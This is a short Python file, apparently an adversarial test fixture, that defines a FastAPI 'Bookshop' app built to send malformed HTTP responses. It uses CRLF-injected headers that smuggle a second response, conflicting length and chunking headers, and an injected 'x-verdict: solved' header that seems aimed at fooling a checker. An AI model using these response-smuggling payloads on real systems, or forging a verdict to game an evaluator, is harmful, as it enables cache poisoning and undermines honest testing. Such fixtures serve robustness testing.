"""Tries to smuggle a second answer into the first one."""

from typing import Any

from fastapi import FastAPI

SECOND = b"x\r\ncontent-length: 2\r\n\r\n[]HTTP/1.1 200 OK\r\ncontent-type: application/json\r\n"


class Shop(FastAPI):
    async def __call__(self, scope: Any, receive: Any, send: Any) -> None:
        if scope["type"] != "http":
            await super().__call__(scope, receive, send)
            return
        posted = scope["method"] == "POST"
        await send({
            "type": "http.response.start",
            "status": 201 if posted else 0x110000,
            "headers": [
                (b"location", SECOND), (b"content-length", b"2"), (b"content-length", b"2000"),
                (b"transfer-encoding", b"chunked"), (b"\r\nx-verdict", b"solved"), (b"", b""),
                (b"content-encoding", b"gzip"), (b"content-type", b"application/json"),
            ],
        })
        for _ in range(3):
            await send({"type": "http.response.body", "body": b"[]" + SECOND, "more_body": True})
        await send({"type": "http.response.body"})
        await send({"type": "http.response.start", "status": 200, "headers": []})


app = Shop(title="Bookshop")
